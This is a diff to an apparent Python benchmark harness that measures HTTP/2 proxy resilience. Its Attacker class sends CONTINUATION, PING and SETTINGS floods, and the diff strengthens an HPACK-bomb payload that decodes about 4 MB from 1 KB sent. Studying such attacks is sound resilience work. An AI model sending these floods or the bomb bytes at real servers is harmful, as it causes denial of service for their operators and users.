@@ -14,8 +14,9 @@ one, and sends at a paced rate:
   continuation  one HEADERS without END_HEADERS, then CONTINUATION frames, RATE a second
   ping          PING frames, RATE a second
   settings      empty SETTINGS frames, RATE a second
-  hpack-bomb    one 4,000-byte header put in the HPACK table, then RATE / 10 streams a second,
-                each a HEADERS naming that entry 1,000 times (4 MB decoded from 1 KB sent)
+  hpack-bomb    a 4,000-byte header put in the HPACK table and named 1,000 times in the same
+                block, then RATE / 10 streams a second, each naming it 1,000 times (4 MB
+                decoded from 1 KB sent)
 
 Each round runs the victims twice: once beside the attacker sending the same bytes to a sink
 (a socket here that reads and drops them: the client side's CPU is the same, the proxy sees
@@ -73,7 +74,7 @@ class Attacker:
             start += frame(1, 0x1, 1, BLOCK[:4])  # HEADERS, END_STREAM, no END_HEADERS
         if self.mode == "hpack-bomb":  # stream 1 puts x-bomb: b...b in the table (index 62)
             big = b"\x40\x06x-bomb\x7f\xa1\x1e"  # a new name, its value 4,000 bytes long
-            start += frame(1, 0x5, 1, BLOCK + big + b"b" * 4000)
+            start += frame(1, 0x5, 1, BLOCK + big + b"b" * 4000 + b"\xbe" * 1000)
             self.sid = 3
         return start
 
